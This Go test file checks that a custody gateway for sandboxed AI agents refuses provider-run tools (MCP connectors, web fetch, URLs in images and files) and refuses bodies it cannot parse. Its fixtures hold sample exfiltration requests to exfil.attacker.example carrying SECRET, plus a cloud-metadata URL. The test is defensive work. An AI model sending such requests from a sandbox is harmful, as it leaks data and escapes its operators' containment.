package gateway

import (
	"bytes"
	"compress/gzip"
	"net/http"
	"strings"
	"testing"

	"github.com/agentcustody/custody/internal/providerreach"
)

// TestProviderRunToolsRefused: a sandbox whose only way out is custody
// must not have the provider connect for it (the attack: the Anthropic
// MCP connector, web fetch, OpenAI remote MCP, Gemini URL context, an
// image by URL carrying data in its query). Each is refused with 403
// naming the member, and nothing reaches the provider; a provider
// configured with ProviderTools forwards them.
func TestProviderRunToolsRefused(t *testing.T) {
	cases := []struct {
		name, provider, path, body, want string
	}{
		{"anthropic mcp connector", "anthropic", "/v1/messages",
			`{"model":"claude-sonnet-4-5","max_tokens":64,"messages":[{"role":"user","content":"hi"}],"mcp_servers":[{"type":"url","url":"https://exfil.attacker.example/mcp","name":"x"}]}`,
			"anthropic: /mcp_servers"},
		{"anthropic web fetch", "anthropic", "/v1/messages",
			`{"model":"claude-sonnet-4-5","max_tokens":64,"messages":[{"role":"user","content":"fetch https://exfil.attacker.example/?d=SECRET"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
			"anthropic: /tools/0 type web_fetch_20250910"},
		{"anthropic image by URL", "anthropic", "/v1/messages",
			`{"model":"claude-sonnet-4-5","max_tokens":64,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://exfil.attacker.example/i.png?d=SECRET"}}]}]}`,
			"anthropic: /messages/0/content/0/source/url"},
		{"openai responses remote mcp", "openai", "/v1/responses",
			`{"model":"gpt-4.1","input":"hi","tools":[{"type":"mcp","server_label":"x","server_url":"https://exfil.attacker.example/sse","require_approval":"never"}]}`,
			"openai: /tools/0 type mcp"},
		{"openai chat image_url", "openai", "/v1/chat/completions",
			`{"model":"gpt-4.1","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://169.254.169.254/latest"}}]}]}`,
			"openai: /messages/0/content/0/image_url/url"},
		{"openai web_search_options", "openai", "/v1/chat/completions",
			`{"model":"gpt-4.1","web_search_options":{},"messages":[]}`, "openai: /web_search_options"},
		{"gemini url context", "gemini", "/v1beta/models/g:generateContent",
			`{"contents":[{"parts":[{"text":"read https://exfil.attacker.example"}]}],"tools":[{"urlContext":{}}]}`, "gemini: /tools/0 member urlcontext"},
		{"gemini file by URL", "gemini", "/v1beta/models/g:generateContent",
			`{"contents":[{"parts":[{"fileData":{"mimeType":"text/html","fileUri":"https://exfil.attacker.example/x"}}]}]}`,
			"gemini: /contents/0/parts/0/fileData/fileUri"},
	}
	e := newEnv(t, defaultPaths(map[string][]string{"openai": {"POST /v1/responses"}}))
	tok := e.mint(t, Grant{Providers: []string{"anthropic", "openai", "gemini"}}).Token
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := len(e.up[c.provider].requests())
			code, _, body := e.do(t, "POST", "/"+c.provider+c.path, bearer(tok), c.body)
			if code != http.StatusForbidden || body != "provider-run tool not allowed for provider "+c.want+"\n" {
				t.Errorf("= %d %q, want 403 naming %q", code, body, c.want)
			}
			if n := len(e.up[c.provider].requests()); n != before {
				t.Errorf("the provider got the request")
			}
		})
	}
	allowed := newEnv(t, defaultPaths(map[string][]string{"openai": {"POST /v1/responses"}}), func(o *Options) {
		for name, pc := range o.Providers {
			pc.ProviderTools = true
			o.Providers[name] = pc
		}
	})
	atok := allowed.mint(t, Grant{Providers: []string{"anthropic", "openai", "gemini"}}).Token
	for _, c := range cases {
		if code, _, body := allowed.do(t, "POST", "/"+c.provider+c.path, bearer(atok), c.body); code != http.StatusOK {
			t.Errorf("%s with ProviderTools: %d %q, want forwarded", c.name, code, body)
		}
	}
}

// TestProviderToolsBodyUnchecked: a body the gateway cannot read for
// provider-run tools is refused, not forwarded unread.
func TestProviderToolsBodyUnchecked(t *testing.T) {
	e := newEnv(t, defaultPaths(nil))
	tok := e.mint(t, Grant{Providers: []string{"anthropic", "openai"}}).Token
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte(`{"model":"m","mcp_servers":[{"url":"https://x.example"}]}`))
	zw.Close()
	deep := strings.Repeat(`{"a":`, providerreach.MaxDepth+2) + "1" + strings.Repeat("}", providerreach.MaxDepth+2)
	cases := []struct {
		name, body string
		hdr        map[string]string
		code       int
		want       string
	}{
		{"gzip", gz.String(), map[string]string{"Content-Encoding": "gzip"}, 400, "request body cannot be checked: content-encoded"},
		{"not JSON", `{"model":"m",`, nil, 400, "request body cannot be checked: not JSON"},
		{"NaN", `{"model":"m","temperature":NaN,"mcp_servers":[{"url":"https://x.example"}]}`, nil, 400, "request body cannot be checked: not JSON"},
		{"two values", `{"model":"m"} {"mcp_servers":[{"url":"https://x.example"}]}`, nil, 400, "request body cannot be checked: not JSON"},
		{"too deep", deep, nil, 400, "request body cannot be checked: nested too deep"},
		{"JSON as multipart", `{"model":"m","mcp_servers":[{"url":"https://x.example"}]}`, map[string]string{"Content-Type": "multipart/form-data; boundary=x"}, 403, "provider-run tool not allowed for provider anthropic: /mcp_servers"},
		{"too large", `{"model":"m","messages":[{"role":"user","content":"` + strings.Repeat("a", maxModelBody) + `"}]}`, nil, 413, "request body cannot be checked: over 32 MiB"},
	}
	before := len(e.up["anthropic"].requests())
	for _, c := range cases {
		h := bearer(tok)
		for k, v := range c.hdr {
			h[k] = v
		}
		if code, _, body := e.do(t, "POST", "/anthropic/v1/messages", h, c.body); code != c.code || body != c.want+"\n" {
			t.Errorf("%s: = %d %q, want %d %q", c.name, code, body, c.code, c.want)
		}
	}
	if n := len(e.up["anthropic"].requests()); n != before {
		t.Errorf("the provider got %d of the refused requests", n-before)
	}
	// A real multipart body (no JSON parser reads it) is forwarded, to an
	// endpoint the operator added.
	e2 := newEnv(t, defaultPaths(map[string][]string{"openai": {"POST /v1/audio/transcriptions"}}))
	tok2 := e2.mint(t, Grant{Providers: []string{"openai"}}).Token
	h := bearer(tok2)
	h["Content-Type"] = "multipart/form-data; boundary=x"
	mp := "--x\r\nContent-Disposition: form-data; name=\"model\"\r\n\r\nwhisper-1\r\n--x--\r\n"
	if code, _, body := e2.do(t, "POST", "/openai/v1/audio/transcriptions", h, mp); code != http.StatusOK {
		t.Errorf("multipart: %d %q, want forwarded", code, body)
	}
}
